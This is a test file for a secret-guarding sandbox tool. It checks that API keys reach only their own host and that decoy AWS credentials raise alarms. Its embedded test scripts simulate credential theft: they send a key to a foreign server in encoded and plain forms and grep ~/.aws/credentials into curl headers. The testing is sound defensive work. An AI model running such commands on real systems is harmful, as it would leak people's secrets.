import { spawnSync } from 'node:child_process';
import { readFileSync, writeFileSync } from 'node:fs';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import { describe, expect, onTestFinished, test } from 'vitest';
import { startSecureWeb, startWeb } from './network.test-support.ts';
import { makeWorkspace, type Place, sallyport } from './sallyport.test-support.ts';

// sallyport-ignore anthropic-key: made up, it opens nothing
const KEY = 'sk-ant-api03-e2eValueThatOnlyItsHostMaySee0123456789';
const has = (program: string): boolean => spawnSync('sh', ['-c', `command -v ${program}`]).status === 0;

async function addKey(place: Place, host: string): Promise<Record<string, string>> {
  const env = { ...place.env, MODEL_KEY: KEY };
  const args = ['secret', 'add', 'model', '--from-env', 'MODEL_KEY', '--host', host, '--header', 'x-api-key', '--env', 'API_KEY'];
  expect((await sallyport(place, args, { env })).code).toBe(0);
  return env;
}

test('a secret reaches its own host, and nothing else in any form', async () => {
  const place = makeWorkspace();
  const model = await startWeb((one) => `you sent ${one.headers['x-api-key']}`);
  const other = await startWeb();
  const env = await addKey(place, `127.0.0.1:${model.port}`);
  const [own, foreign] = [`http://127.0.0.1:${model.port}`, `http://127.0.0.1:${other.port}`];
  const steps = `
    const key = process.env.API_KEY;
    const status = async (url, options) => (await fetch(url, options).catch((error) => ({ status: error.message }))).status;
    (async () => {
      console.log(await (await fetch('${own}/v1', { headers: { 'x-api-key': key } })).text());
      console.log(await status('${foreign}/header', { headers: { 'x-api-key': key } }));
      console.log(await status('${foreign}/' + key));
      console.log(await status('${foreign}/?q=' + Buffer.from(key).toString('base64')));
      console.log(await status('${foreign}/body', { method: 'POST', body: JSON.stringify({ key }) }));
      console.log(require('fs').readFileSync('/proc/self/environ', 'utf8').includes('ThatOnlyItsHost'));
      console.log(key);
    })();`;
  writeFileSync(join(place.workspace, 'steps.js'), steps);
  const args = ['run', '-q', '--secret', 'model', '--allow-host', `127.0.0.1:${other.port}`, '--', process.execPath, 'steps.js'];
  const { stdout, stderr } = await sallyport(place, args, { cwd: place.workspace, env });
  const [echoed, ...rest] = stdout.trim().split('\n');
  expect(stderr).toContain('a secret was on its way to a host that it is not meant for');
  expect(echoed).toBe('you sent [redacted:model]');
  expect(rest.slice(0, 5)).toEqual(['403', '403', '403', '403', 'false']);
  expect(rest[5]).toMatch(/^sk-ant-/);
  expect(model.seen.map((one) => one.headers['x-api-key'])).toEqual([KEY]);
  expect(other.seen).toEqual([]);
  const trail = await sallyport(place, ['trail', 'export', '--format', 'ndjson']);
  expect(trail.stdout).toContain('secret:model');
  expect(stdout + stderr + trail.stdout).not.toContain(KEY);
});

test.each([101, 200])('an answer of %i to an upgrade shows the value as little as any other', async (status) => {
  const place = makeWorkspace();
  const model = createServer((request, response) => {
    response.writeHead(200, { 'x-echo': request.headers['x-api-key'] });
    response.end(`you sent ${request.headers['x-api-key']}`);
  });
  if (status === 101)
    model.on('upgrade', (request, socket) => {
      const lines = ['HTTP/1.1 101 Switching Protocols', 'Connection: Upgrade', 'Upgrade: websocket'];
      socket.end([...lines, `x-echo: ${request.headers['x-api-key']}`, '', ''].join('\r\n'));
    });
  await new Promise<void>((done) => model.listen(0, '127.0.0.1', done));
  onTestFinished(() => void model.close());
  const { port } = model.address() as AddressInfo;
  const env = await addKey(place, `127.0.0.1:${port}`);
  const steps = `
    const headers = { connection: 'upgrade', upgrade: 'websocket', 'sec-websocket-version': '13',
      'sec-websocket-key': 'AAAAAAAAAAAAAAAAAAAAAA==', 'x-api-key': process.env.API_KEY };
    const socket = require('net').connect(${port}, '127.0.0.1', () => socket.write(['GET /v1 HTTP/1.1', 'host: 127.0.0.1:${port}',
      ...Object.entries(headers).map((pair) => pair.join(': ')), '', ''].join('\\r\\n')));
    socket.pipe(process.stdout);`;
  writeFileSync(join(place.workspace, 'steps.js'), steps);
  const { stdout } = await sallyport(place, ['run', '-q', '--secret', 'model', '--', process.execPath, 'steps.js'], {
    cwd: place.workspace,
    env,
  });
  expect(stdout).toContain(`HTTP/1.1 ${status}`);
  expect(stdout).toContain('x-echo: [redacted:model]');
  expect(stdout.includes('you sent [redacted:model]')).toBe(status === 200);
  expect(stdout).not.toContain(KEY);
});

test.skipIf(!has('curl'))('inside TLS too: its host is inspected by itself', async () => {
  const place = makeWorkspace();
  const web = await startSecureWeb(place, 'api.test');
  const env = { ...(await addKey(place, `api.test:${web.port}`)), NODE_EXTRA_CA_CERTS: web.authority };
  const script = `curl -sS -H "x-api-key: $API_KEY" https://api.test:${web.port}/v1`;
  const { stdout } = await sallyport(
    place,
    [
      'run',
      '-q',
      '--secret',
      'model',
      '--resolve',
      'api.test=127.0.0.1',
      '--allow-host',
      `127.0.0.1:${web.port}`,
      '--',
      'sh',
      '-c',
      script,
    ],
    { cwd: place.workspace, env },
  );
  expect(stdout).toBe('hello over TLS');
  expect(web.seen.map((one) => one.headers['x-api-key'])).toEqual([KEY]);
});

test.skipIf(!has('curl'))('a decoy that somebody found and sends is an alarm', async () => {
  const place = makeWorkspace();
  const web = await startWeb();
  expect((await sallyport(place, ['secret', 'add', 'trap', '--canary'])).code).toBe(0);
  const script = `curl -sS -o /dev/null -w '%{http_code}' -H "x: $(grep secret_access ~/.aws/credentials | cut -d' ' -f3)" http://127.0.0.1:${web.port}/`;
  const { stdout, stderr } = await sallyport(
    place,
    ['run', '-q', '--allow-host', `127.0.0.1:${web.port}`, '--', 'sh', '-c', script],
    {
      cwd: place.workspace,
    },
  );
  expect(stdout).toBe('403');
  expect(stderr).toContain(`the decoy trap stood in a request to 127.0.0.1:${web.port}`);
  expect(web.seen).toEqual([]);
  expect((await sallyport(place, ['trail', 'export', '--format', 'ndjson'])).stdout).toContain('secret:trap');
});

describe('a decoy that somebody took is an alarm', () => {
  const key = "$(grep secret_access ~/.aws/credentials | cut -d' ' -f3)";

  async function take(script: string, options: readonly string[] = []): Promise<{ err: string; alarms: unknown; trail: string }> {
    const place = makeWorkspace();
    expect((await sallyport(place, ['secret', 'add', 'trap', '--canary'])).code).toBe(0);
    writeFileSync(join(place.workspace, 'take.sh'), script);
    const summary = join(place.root, 'summary.json');
    const args = ['run', '--unattended', '--summary', summary, ...options, '--', 'sh', 'take.sh'];
    const { stderr } = await sallyport(place, args);
    const { alarms }: { alarms?: unknown } = JSON.parse(readFileSync(summary, 'utf8'));
    return { err: stderr, alarms, trail: (await sallyport(place, ['trail', 'show', 'last'])).stdout };
  }

  test('in a file that stays in the workspace', async () => {
    const { err, alarms, trail } = await take(`printf 'x = %s\n' "${key}" > notes.txt`);
    expect(alarms).toEqual([{ canary: 'trap', where: 'file', what: expect.stringMatching(/\/notes\.txt$/) }]);
    expect(err).toContain('sallyport: ALARM: something in this run looked for credentials');
    expect(trail).toMatch(/alarm {2}trap · file · \S+notes\.txt/);
  });

  test('in base64, and in the overlay of a transaction', async () => {
    const { alarms } = await take(`printf '%s' "${key}" | base64 > notes.txt`, ['--transaction']);
    expect(alarms).toEqual([{ canary: 'trap', where: 'file', what: expect.stringMatching(/\/notes\.txt$/) }]);
  });

  test('among the arguments of a program', async () => {
    const { alarms, trail } = await take(`env true "${key}"`);
    expect(alarms).toContainEqual({ canary: 'trap', where: 'record', what: expect.stringMatching(/^exec /) });
    expect(trail).toContain('alarm  trap · record · exec');
  });

  test('reading it, or copying it within the cage, is none', async () => {
    const { err, alarms } = await take('cat ~/.aws/credentials > /tmp/copy; cat /tmp/copy > /dev/null');
    expect([alarms, err.includes('ALARM')]).toEqual([[], false]);
  });
});

test('a secret that does not exist is said before anything runs', async () => {
  const place = makeWorkspace();
  const { code, stderr } = await sallyport(place, ['run', '--secret', 'nope', '--', 'echo', 'ran'], { cwd: place.workspace });
  expect(code).toBe(125);
  expect(stderr).toContain('There is no secret nope.');
});
